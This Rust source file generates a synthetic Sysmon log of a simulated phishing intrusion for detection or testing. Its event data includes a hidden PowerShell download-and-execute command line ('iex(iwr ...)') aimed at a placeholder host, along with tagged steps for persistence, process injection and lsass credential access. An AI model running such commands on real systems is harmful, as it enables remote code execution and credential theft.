//! The incident: a document that should not have been opened.
//!
//! On `ws07` somebody opens an invoice in the mail program. A script starts PowerShell, which fetches a program that calls itself
//! `explorer.exe`, writes itself into a Run key, puts a thread into `notepad.exe`, which reads the memory of `lsass.exe`; a tool on another
//! branch looks around. Before, after and beside it people work.

use super::event::Log;

const HOST: &str = "ws07.example.org";
const EVA: &str = r"EXAMPLE\eva.novak";
const SYSTEM: &str = r"NT AUTHORITY\SYSTEM";

/// A process: the last digits of its GUID, its number, image, command line.
struct Process(u32, &'static str, &'static str, &'static str);

/// Parents that were there before the log began.
const WININIT: Process = Process(0x0e, "620", r"C:\Windows\System32\wininit.exe", "wininit.exe");
const USERINIT: Process =
    Process(0x0f, "4280", r"C:\Windows\System32\userinit.exe", r"C:\Windows\system32\userinit.exe");

const SERVICES: Process =
    Process(0x10, "712", r"C:\Windows\System32\services.exe", r"C:\Windows\system32\services.exe");
const LSASS: Process = Process(0x11, "728", r"C:\Windows\System32\lsass.exe", r"C:\Windows\system32\lsass.exe");
const SVCHOST: Process =
    Process(0x12, "1044", r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p");
const EXPLORER: Process = Process(0x13, "4312", r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE");
const MAIL: Process = Process(0x20, "6120", r"C:\Program Files\Mail\mail.exe", r#""C:\Program Files\Mail\mail.exe""#);
const SCRIPT: Process = Process(
    0x21,
    "7204",
    r"C:\Windows\System32\wscript.exe",
    r#""C:\Windows\System32\WScript.exe" "C:\Users\eva.novak\Downloads\invoice.js""#,
);
const SHELL: Process = Process(
    0x22,
    "7316",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    "powershell.exe -w hidden -nop -c iex(iwr http://files.example.net/a)",
);
const DECOY: Process = Process(
    0x23,
    "7552",
    r"C:\Users\eva.novak\AppData\Roaming\explorer.exe",
    r#""C:\Users\eva.novak\AppData\Roaming\explorer.exe" -s"#,
);
const NOTEPAD: Process = Process(0x24, "7604", r"C:\Windows\System32\notepad.exe", "notepad.exe");
const WHOAMI: Process = Process(0x25, "7660", r"C:\Windows\System32\whoami.exe", "whoami /all");
const NLTEST: Process = Process(0x26, "7688", r"C:\Windows\System32\nltest.exe", "nltest /domain_trusts");
const BROWSER: Process =
    Process(0x30, "8100", r"C:\Program Files\Browser\browser.exe", r#""C:\Program Files\Browser\browser.exe""#);
/// Later, with the number that `whoami` had.
const EDITOR: Process =
    Process(0x31, "7660", r"C:\Program Files\Editor\editor.exe", r#""C:\Program Files\Editor\editor.exe" notes.txt"#);

/// What Sysmon writes where it does not know a process.
const NONE: &str = "{00000000-0000-0000-0000-000000000000}";
const NO_RULE: &str = "-";

impl Process {
    fn guid(&self) -> String {
        format!("{{0b1e5a11-4f20-6981-{:04x}-000000001200}}", self.0)
    }
}

/// The log of the computer.
struct Incident(Log);

impl Incident {
    fn created(&mut self, seconds: u64, process: &Process, parent: &Process, user: &str, rule: &str) {
        self.created_by(seconds, process, parent, &parent.guid(), user, rule);
    }

    fn created_by(&mut self, seconds: u64, process: &Process, parent: &Process, guid: &str, user: &str, rule: &str) {
        let hashes = format!("SHA256={:064X}", u128::from(process.0) * 0x0B1E_5A11_0B1E_5A11_0B1E_5A11);
        let data = [
            ("RuleName", rule),
            ("ProcessGuid", &process.guid()),
            ("ProcessId", process.1),
            ("Image", process.2),
            ("CommandLine", process.3),
            ("CurrentDirectory", r"C:\Users\eva.novak\"),
            ("User", user),
            ("IntegrityLevel", if user == SYSTEM { "System" } else { "Medium" }),
            ("Hashes", &hashes),
            ("ParentProcessGuid", guid),
            ("ParentProcessId", parent.1),
            ("ParentImage", parent.2),
            ("ParentCommandLine", parent.3),
        ];
        self.0.add(seconds * 1000, 1, HOST, &data);
    }

    fn did(&mut self, seconds: u64, id: u32, process: &Process, rule: &str, data: &[(&str, &str)]) {
        let guid = process.guid();
        let mut all = vec![
            ("RuleName", rule),
            ("ProcessGuid", guid.as_str()),
            ("ProcessId", process.1),
            ("Image", process.2),
            ("User", EVA),
        ];
        all.extend(data);
        self.0.add(seconds * 1000, id, HOST, &all);
    }

    fn between(
        &mut self,
        seconds: u64,
        id: u32,
        source: &Process,
        target: &Process,
        rule: &str,
        data: &[(&str, &str)],
    ) {
        // Sysmon writes GUID in capitals in event 10 alone.
        let guids = if id == 10 {
            ["SourceProcessGUID", "TargetProcessGUID"]
        } else {
            ["SourceProcessGuid", "TargetProcessGuid"]
        };
        let (from, to) = (source.guid(), target.guid());
        let mut all = vec![
            ("RuleName", rule),
            (guids[0], from.as_str()),
            ("SourceProcessId", source.1),
            ("SourceImage", source.2),
            (guids[1], to.as_str()),
            ("TargetProcessId", target.1),
            ("TargetImage", target.2),
        ];
        all.extend(data);
        self.0.add(seconds * 1000, id, HOST, &all);
    }
}

/// The lines of the file.
pub fn lines() -> String {
    let mut log = Incident(Log::default());
    log.created(0, &SERVICES, &WININIT, SYSTEM, NO_RULE);
    log.created(1, &SVCHOST, &SERVICES, SYSTEM, NO_RULE);
    log.created(600, &EXPLORER, &USERINIT, EVA, NO_RULE);
    log.created(5, &MAIL, &EXPLORER, EVA, NO_RULE);
    log.created(30, &BROWSER, &EXPLORER, EVA, NO_RULE);
    log.created(200, &NOTEPAD, &EXPLORER, EVA, NO_RULE);
    log.created(40, &SCRIPT, &MAIL, EVA, "technique_id=T1059.007,technique_name=JavaScript");
    log.created(2, &SHELL, &SCRIPT, EVA, "technique_id=T1059.001,technique_name=PowerShell");
    let query = [("QueryName", "files.example.net"), ("QueryStatus", "0"), ("QueryResults", "203.0.113.7;")];
    log.did(1, 22, &SHELL, NO_RULE, &query);
    let connection =
        [("Protocol", "tcp"), ("Initiated", "true"), ("DestinationIp", "203.0.113.7"), ("DestinationPort", "80")];
    log.did(0, 3, &SHELL, "technique_id=T1105,technique_name=Ingress Tool Transfer", &connection);
    log.did(2, 11, &SHELL, NO_RULE, &[("TargetFilename", DECOY.2)]);
    log.created(1, &DECOY, &SHELL, EVA, "technique_id=T1036.005,technique_name=Match Legitimate Name or Location");
    log.created(4, &WHOAMI, &SHELL, EVA, "technique_id=T1033,technique_name=System Owner/User Discovery");
    log.created(1, &NLTEST, &SHELL, EVA, "technique_id=T1482,technique_name=Domain Trust Discovery");
    let run_key = [
        ("EventType", "SetValue"),
        ("TargetObject", r"HKU\S-1-5-21-1-2-3-1107\Software\Microsoft\Windows\CurrentVersion\Run\Explorer"),
        ("Details", DECOY.2),
    ];
    log.did(2, 13, &DECOY, "technique_id=T1547.001,technique_name=Registry Run Keys", &run_key);
    let thread = [("StartAddress", "0x0000020A1C3E0000"), ("SourceUser", EVA), ("TargetUser", EVA)];
    log.between(9, 8, &DECOY, &NOTEPAD, "technique_id=T1055,technique_name=Process Injection", &thread);
    let access = [
        ("GrantedAccess", "0x1010"),
        ("CallTrace", r"C:\Windows\SYSTEM32\ntdll.dll+9d1e4|UNKNOWN(0000020A1C3E1A2B)"),
        ("SourceUser", EVA),
        ("TargetUser", SYSTEM),
    ];
    log.between(3, 10, &NOTEPAD, &LSASS, "technique_id=T1003.001,technique_name=Credential Dumping", &access);
    for process in [&WHOAMI, &NLTEST, &SCRIPT] {
        log.did(1, 5, process, NO_RULE, &[]);
    }
    // Work goes on: another program under a number that was used before, and two whose parents Sysmon did not know.
    log.created(60, &EDITOR, &EXPLORER, EVA, NO_RULE);
    for (number, image) in [(0x40, r"C:\Windows\System32\taskhostw.exe"), (0x41, r"C:\Windows\System32\conhost.exe")] {
        log.created_by(5, &Process(number, "9000", image, image), &SVCHOST, NONE, SYSTEM, NO_RULE);
    }
    log.did(5, 22, &BROWSER, NO_RULE, &[("QueryName", "www.example.org"), ("QueryStatus", "0")]);
    log.0.lines
}
